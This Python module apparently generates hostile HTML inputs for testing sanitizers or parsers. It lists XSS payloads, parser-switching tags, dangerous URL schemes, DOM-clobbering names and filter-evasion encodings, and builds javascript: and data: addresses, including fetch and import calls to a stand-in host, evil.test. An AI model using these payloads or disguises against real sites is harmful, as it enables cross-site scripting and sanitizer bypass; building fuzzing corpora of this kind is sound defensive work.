"""What hostile documents are made of: tags, schemes, names, characters, and the ways of disguising them."""

from collections.abc import Callable, Sequence
from random import Random

PAYLOADS = (
    "alert(1)",
    "prompt(1)",
    "confirm(1)",
    "tripped()",
    "fetch('//evil.test/x')",
    "console.log('tripped')",
    "top.tripped()",
    "document.title='tripped'",
    "import('//evil.test/m.js')",
    "window['al'+'ert'](1)",
    "alert`1`",
    "[1].map(alert)",
)
TAGS = (
    "a b i p div span img video audio source track picture input button textarea select option form keygen details "
    "summary dialog marquee object embed applet iframe frame frameset body html head link meta base style script "
    "noscript template slot svg math table tr td th caption colgroup col ul ol li dl dt dd h1 h2 blockquote pre code "
    "xmp plaintext listing noembed noframes nobr font center isindex image portal fencedframe bgsound x-y custom-tag "
    "ruby rt wbr meter progress output label fieldset legend map area hr br"
).split()
SPECIAL = (
    "svg math mtext mi mo mn ms mglyph malignmark annotation-xml foreignObject desc title style noscript template "
    "textarea xmp iframe noembed noframes plaintext select option optgroup table caption colgroup tr td form p a b "
    "nobr button script animate set use image path text tspan mpath handler listener font semantics maction frameset"
).split()
"""Elements at which parsers change their rules; what is nested in them is read differently the second time."""

URL_ATTRIBUTES = (
    "href src action formaction xlink:href srcset poster background data code codebase cite longdesc usemap ping "
    "manifest profile lowsrc dynsrc classid archive icon from to values by imagesrcset srcdoc content"
).split()
SCHEMES = (
    "javascript vbscript livescript mocha data blob filesystem file feed view-source jar intent about chrome ws wss "
    "mhtml ms-its wyciwyg resource res disk x-javascript ftp gopher sms android-app itms jscript"
).split()
CLOBBERING = (
    "location document window self top parent name length frames opener history navigator forms images links scripts "
    "body head documentElement cookie domain title URL referrer getElementById querySelector createElement alert "
    "fetch constructor prototype __proto__ toString valueOf hasOwnProperty attributes children parentNode nodeName "
    "innerHTML action method elements submit reset page bar-q said dark q app sop csrf_token config default "
    "currentScript baseURI defaultView"
).split()
CHARACTERS = (
    *("\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\xa0", "\xad"),
    *("\u061c", "\u180e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202e"),
    *("\u2060", "\u2066", "\u2067", "\u2069", "\ufeff", "\ufffd", "\ufffe", "\uffff", "\U000e0001", "\U0001f600"),
    *("\u0130", "\u0131", "\u017f", "\u212a", "\uff1c", "\uff1e", "\uff02", "\u02bc", "\u2039", "\u3008", "\ufe64"),
)
SPACES = (" ", "\t", "\n", "\r", "\x0c", "/", " / ", "\xa0", "\u3000", "\x0b", "")
QUOTES = ('"', "'", "`", "", "&quot;", "&#34;", "\u201d")
ENTITIES = {":": ("&colon;", "&#58;", "&#x3a;", "&#x003A"), "\t": ("&Tab;", "&#9;"), "\n": ("&NewLine;", "&#10;")}

Disguise = Callable[[Random, str], str]


def _plain(_chance: Random, text: str) -> str:
    return text


def _cased(chance: Random, text: str) -> str:
    return "".join(letter.upper() if chance.random() < 0.5 else letter for letter in text)


def _cut(chance: Random, text: str) -> str:
    at = chance.randrange(len(text) + 1)
    return (
        text[:at] + chance.choice(("\t", "\n", "\r", "\x00", "\x01", " ", "\u200b", "\xad", "\\", "/**/")) + text[at:]
    )


def _led(chance: Random, text: str) -> str:
    return chance.choice((" ", "\x01", "\x1f", "\u2028", "\xa0", "\ufeff", "\t", "//", "\\\\", "x:")) + text


def _entities(chance: Random, text: str) -> str:
    def hidden(letter: str) -> str:
        if chance.random() < 0.5:
            return letter
        known = ENTITIES.get(letter)
        if known:
            return chance.choice(known)
        return chance.choice(
            (f"&#{ord(letter)};", f"&#x{ord(letter):x};", f"&#{ord(letter):07d}", f"&#X{ord(letter):X};")
        )

    return "".join(map(hidden, text))


def _percent(chance: Random, text: str) -> str:
    return "".join(f"%{ord(letter):02x}" if chance.random() < 0.3 and letter.isascii() else letter for letter in text)


def _escaped(chance: Random, text: str) -> str:
    return "".join(f"\\{letter}" if chance.random() < 0.3 else letter for letter in text)


def _wide(chance: Random, text: str) -> str:
    return "".join(
        chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" and chance.random() < 0.3 else letter for letter in text
    )


def _twice(chance: Random, text: str) -> str:
    at = chance.randrange(len(text) + 1)
    return text[:at] + text + text[at:]


DISGUISES: Sequence[Disguise] = (_plain, _plain, _cased, _cut, _led, _entities, _percent, _escaped, _wide, _twice)


def disguised(chance: Random, text: str) -> str:
    """Return `text` as somebody writes it who wants it to be taken for something else."""
    for _ in range(chance.choice((1, 1, 2))):
        text = chance.choice(DISGUISES)(chance, text)
    return text


def address(chance: Random) -> str:
    """Return an address that does something when it is followed, or leads elsewhere than it says."""
    scheme = chance.choice(SCHEMES if chance.random() < 0.5 else SCHEMES[:5])
    payload = chance.choice(PAYLOADS)
    if scheme == "data":
        kind = chance.choice(
            ("text/html", "image/svg+xml", "text/xml", "text/html;charset=utf-7", "application/xhtml+xml")
        )
        return f"{disguised(chance, 'data:')}{kind},<svg onload={payload}>"
    rest = chance.choice(("", "//", "//example.com/%0a", "//a@b/\n", "\\\\"))
    return disguised(chance, f"{scheme}:") + rest + payload
